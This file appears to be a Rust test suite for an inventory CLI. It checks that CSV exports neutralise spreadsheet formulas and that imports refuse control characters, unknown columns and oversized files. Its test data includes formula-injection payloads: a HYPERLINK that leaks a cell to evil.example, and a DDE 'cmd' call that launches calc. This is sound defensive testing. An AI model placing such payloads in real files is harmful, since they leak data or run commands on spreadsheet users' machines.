//! CSV files through the real CLI: what it writes opens in a spreadsheet without running a
//! formula (assets, cables, the cable schedule, reports) and imports back to the same values;
//! a control character is refused with its line and column; a column no field answers to is
//! refused (by the dry run too) unless `--ignore-unknown-columns`; a file past the size an
//! import reads is refused by its size.

use crate::util::Cli;

const PANEL: &str = "A-R01-Patch panel 48×Cat6A";

/// Values a spreadsheet would run: a link that leaks a cell, arithmetic, a DDE call, a
/// function; and one that only starts with the quote we mark text with.
const FORMULAS: [(&str, &str); 5] = [
    (
        "--asset-tag",
        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"클릭\")",
    ),
    ("--model", "=1+1"),
    ("--owner", "@SUM(1,2)"),
    ("--serial", "-2+3+cmd|' /C calc'!A0"),
    ("--notes", "'인용으로 시작\n둘째 줄"),
];

/// The cells of a CSV file as a spreadsheet reads them (without our import's reading back).
fn cells(path: &std::path::Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).expect("the CSV");
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes)
        .records()
        .map(|record| {
            record
                .expect("a CSV record")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect()
}

/// Fails on a cell a spreadsheet would take for a formula: OWASP's `= + - @`, tab or CR first.
fn assert_no_formula(what: &str, rows: &[Vec<String>]) {
    for cell in rows.iter().flatten() {
        let number = cell
            .trim_start_matches(['+', '-'])
            .bytes()
            .all(|b| b.is_ascii_digit() || b == b'.');
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || number,
            "{what}: {cell:?} would run as a formula"
        );
    }
}

fn add_formula_asset(cli: &Cli) {
    // `--flag=value`: a value that starts with '-' is the value, not another flag.
    let flags: Vec<String> = FORMULAS
        .iter()
        .map(|(flag, value)| format!("{flag}={value}"))
        .collect();
    let mut args = vec!["asset", "add", "--type", "server", "--status", "in_use"];
    args.extend(flags.iter().map(String::as_str));
    cli.run(&args).ok();
}

#[test]
fn every_csv_the_cli_writes_escapes_formulas_and_an_export_imports_back_unchanged() {
    let cli = Cli::with_demo_racks("1");
    add_formula_asset(&cli);
    cli.run(&[
        "cable",
        "add",
        "--a-device",
        "web-01",
        "--a-port",
        "eno1",
        "--b-device",
        PANEL,
        "--b-port",
        "front:1",
        "--type",
        "cat6a",
        "--label",
        "=1+1",
        "--color",
        "+빨강",
    ])
    .ok();

    let assets = cli.path("assets.csv");
    cli.run(&["asset", "export", "--out", assets.to_str().expect("path")])
        .ok();
    let rows = cells(&assets);
    assert_no_formula("assets", &rows);
    let header = &rows[0];
    let formula_row = rows
        .iter()
        .find(|row| row[1].contains("HYPERLINK"))
        .expect("the asset's row");
    let cell = |column: &str| {
        let at = header.iter().position(|name| name == column).expect(column);
        formula_row[at].as_str()
    };
    assert_eq!(
        cell("asset_tag"),
        "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"클릭\")"
    );
    assert_eq!(cell("model"), "'=1+1");
    assert_eq!(cell("owner"), "'@SUM(1,2)");
    assert_eq!(cell("serial"), "'-2+3+cmd|' /C calc'!A0");
    assert_eq!(cell("notes"), "''인용으로 시작\n둘째 줄");

    let cables = cli.path("cables.csv");
    cli.run(&["cable", "export", "--out", cables.to_str().expect("path")])
        .ok();
    let cable_rows = cells(&cables);
    assert_no_formula("cables", &cable_rows);
    assert!(cable_rows.iter().flatten().any(|cell| cell == "'=1+1"));
    let schedule = cli.path("schedule.csv");
    cli.run(&[
        "cable",
        "schedule",
        "--csv",
        schedule.to_str().expect("path"),
    ])
    .ok();
    assert_no_formula("schedule", &cells(&schedule));
    let report = cli.path("inventory.csv");
    cli.run(&[
        "report",
        "assets",
        "--csv",
        report.to_str().expect("path"),
        "--today",
        "2026-06-01",
    ])
    .ok();
    let report_rows = cells(&report);
    assert_no_formula("report", &report_rows);
    assert!(report_rows
        .iter()
        .flatten()
        .any(|cell| cell.starts_with("'=HYPERLINK(")));

    // The export imports into another workspace as the same values, the quotes taken off.
    cli.run(&["workspace", "create", "복제"]).ok();
    let imported = cli
        .run(&[
            "--workspace",
            "복제",
            "asset",
            "import",
            assets.to_str().expect("path"),
        ])
        .ok();
    assert!(imported.contains("imported 21 assets"), "{imported}");
    let tag = FORMULAS[0].1;
    let shown = cli
        .run(&["--workspace", "복제", "asset", "show", tag, "--json"])
        .json();
    for (flag, value) in FORMULAS {
        let field = flag.trim_start_matches("--").replace('-', "_");
        assert_eq!(shown["asset"]["asset"][&field], value, "{field}");
    }
    let again = cli.path("again.csv");
    cli.run(&[
        "--workspace",
        "복제",
        "asset",
        "export",
        "--out",
        again.to_str().expect("path"),
    ])
    .ok();
    let without_ids = |rows: Vec<Vec<String>>| {
        let mut rows: Vec<Vec<String>> = rows.into_iter().map(|row| row[1..].to_vec()).collect();
        rows.sort();
        rows
    };
    assert_eq!(without_ids(cells(&again)), without_ids(rows));
}

#[test]
fn a_control_character_is_refused_with_its_line_and_column_and_nothing_is_written() {
    let cli = Cli::with_demo_racks("1");
    let before = cli.run(&["asset", "list", "--json"]).json()["total"].clone();
    let file = cli.path("nul.csv");
    std::fs::write(
        &file,
        "asset_tag,asset_type,status,notes\n\
         NUL-1,server,in_use,\"여러 줄\n메모\"\n\
         NUL-\u{0}2,server,in_use,\n\
         NUL-3,server,in_use,\"벨\u{7}\"\n",
    )
    .expect("write");
    let path = file.to_str().expect("path");
    for dry_run in [true, false] {
        let args: Vec<&str> = if dry_run {
            vec!["asset", "import", "--dry-run", path]
        } else {
            vec!["asset", "import", path]
        };
        let stderr = cli.run(&args).fails();
        assert!(
            stderr
                .contains("line 4: asset_tag: contains the control character U+0000 at position 5"),
            "{stderr}"
        );
        assert!(
            stderr.contains("line 5: notes: contains the control character U+0007 at position 2"),
            "{stderr}"
        );
        assert!(
            !stderr.contains("line 2"),
            "a line break in notes is fine: {stderr}"
        );
        assert!(stderr.contains("nothing was imported"), "{stderr}");
    }
    assert_eq!(
        cli.run(&["asset", "list", "--json"]).json()["total"],
        before
    );
    cli.run(&["asset", "show", "NUL-1"]).fails();

    // The CLI's own flags: an escape sequence in a model, a tab in a tag.
    let refused = cli
        .run(&[
            "asset",
            "add",
            "--asset-tag",
            "ESC-1",
            "--type",
            "server",
            "--status",
            "in_use",
            "--model",
            "R760\u{1b}[2J",
        ])
        .fails();
    assert!(
        refused.contains("model: contains the control character U+001B at position 5"),
        "{refused}"
    );
    cli.run(&[
        "asset",
        "add",
        "--asset-tag",
        "TAB-1",
        "--type",
        "server",
        "--status",
        "in_use",
    ])
    .ok();
    let refused = cli
        .run(&["asset", "edit", "TAB-1", "--asset-tag", "TAB\t2"])
        .fails();
    assert!(
        refused.contains("asset_tag: contains the control character U+0009 at position 4"),
        "{refused}"
    );
    let refused = cli
        .run(&[
            "cable",
            "add",
            "--a-device",
            "web-01",
            "--a-port",
            "eno1",
            "--b-device",
            PANEL,
            "--b-port",
            "front:1",
            "--type",
            "cat6a",
            "--label",
            "C\u{7}1",
        ])
        .fails();
    assert!(
        refused.contains("label: contains the control character U+0007 at position 2"),
        "{refused}"
    );

    // A cable file: the line and the column.
    let cables = cli.path("cables.csv");
    std::fs::write(
        &cables,
        format!(
            "side_a_device,side_a_name,side_b_device,side_b_name,type,label\n\
             web-01,eno1,{PANEL},front:1,cat6a,C-1\n\
             web-01,eno2,{PANEL},front:2,cat6a,\"C-\u{0}2\"\n"
        ),
    )
    .expect("write");
    let stderr = cli
        .run(&["cable", "import", cables.to_str().expect("path")])
        .fails();
    assert!(
        stderr.contains("line 3: label: contains the control character U+0000 at position 3"),
        "{stderr}"
    );
    assert_eq!(
        cli.run(&["cable", "list", "--json"]).json(),
        serde_json::json!([])
    );
}

#[test]
fn an_unknown_column_is_refused_by_the_import_and_its_dry_run_unless_told_to_ignore_it() {
    let cli = Cli::new();
    cli.run(&["workspace", "create", "평택 1센터"]).ok();
    let file = cli.path("misspelt.csv");
    std::fs::write(
        &file,
        "asset_tag,asset_type,status,modle\nPT1-SRV-0001,server,in_use,R760\n",
    )
    .expect("write");
    let path = file.to_str().expect("path");
    for args in [
        vec!["asset", "import", path],
        vec!["asset", "import", "--dry-run", path],
    ] {
        let stderr = cli.run(&args).fails();
        assert!(
            stderr.contains(
                "file: no field answers to the columns modle (the columns known are id, \
                 asset_tag, asset_type, manufacturer, model,"
            ),
            "{stderr}"
        );
        assert!(stderr.contains("--ignore-unknown-columns"), "{stderr}");
        assert!(stderr.contains("nothing was imported"), "{stderr}");
    }
    assert_eq!(cli.run(&["asset", "list", "--json"]).json()["total"], 0);

    let dry = cli
        .run(&[
            "asset",
            "import",
            "--dry-run",
            "--ignore-unknown-columns",
            path,
        ])
        .ok();
    assert!(dry.contains("1 rows are valid"), "{dry}");
    let run = cli
        .run(&["asset", "import", "--ignore-unknown-columns", path])
        .ok();
    assert!(run.contains("imported 1 assets"), "{run}");
    let shown = cli.run(&["asset", "show", "PT1-SRV-0001", "--json"]).json();
    assert_eq!(
        shown["asset"]["asset"]["model"], "",
        "the ignored column is not read"
    );

    // Cables and test results alike.
    let cli = Cli::with_demo_racks("1");
    let cables = cli.path("cables.csv");
    std::fs::write(
        &cables,
        format!(
            "side_a_device,side_a_name,side_b_device,side_b_name,type,colour\n\
             web-01,eno1,{PANEL},front:1,cat6a,파랑\n"
        ),
    )
    .expect("write");
    let path = cables.to_str().expect("path");
    let stderr = cli.run(&["cable", "import", path]).fails();
    assert!(
        stderr.contains(
            "no field answers to the columns colour (the columns known are side_a_device"
        ),
        "{stderr}"
    );
    assert!(stderr.contains("--ignore-unknown-columns"), "{stderr}");
    let run = cli
        .run(&["cable", "import", "--ignore-unknown-columns", path])
        .ok();
    assert!(run.contains("imported 1 cables"), "{run}");
    let results = cli.path("results.csv");
    std::fs::write(&results, "label,result,tester,notes\nX,pass,이서연,ok\n").expect("write");
    let stderr = cli
        .run(&["cable", "test", "--import", results.to_str().expect("path")])
        .fails();
    assert!(
        stderr.contains("no field answers to the columns notes"),
        "{stderr}"
    );
}

#[test]
fn a_file_larger_than_an_import_reads_is_refused_by_its_size_without_reading_it() {
    let cli = Cli::new();
    cli.run(&["workspace", "create", "평택 1센터"]).ok();
    // 100 MB of one field, as a sparse file: its size is what the import sees first.
    let huge = cli.path("huge.csv");
    let file = std::fs::File::create(&huge).expect("create");
    file.set_len(100 * 1024 * 1024).expect("size");
    let stderr = cli
        .run(&["asset", "import", huge.to_str().expect("path")])
        .fails();
    assert!(
        stderr.contains("the file is 104857600 bytes; a CSV file may be at most 64 MiB"),
        "{stderr}"
    );
    let stderr = cli
        .run(&["cable", "import", huge.to_str().expect("path")])
        .fails();
    assert!(
        stderr.contains("a CSV file may be at most 64 MiB"),
        "{stderr}"
    );
}
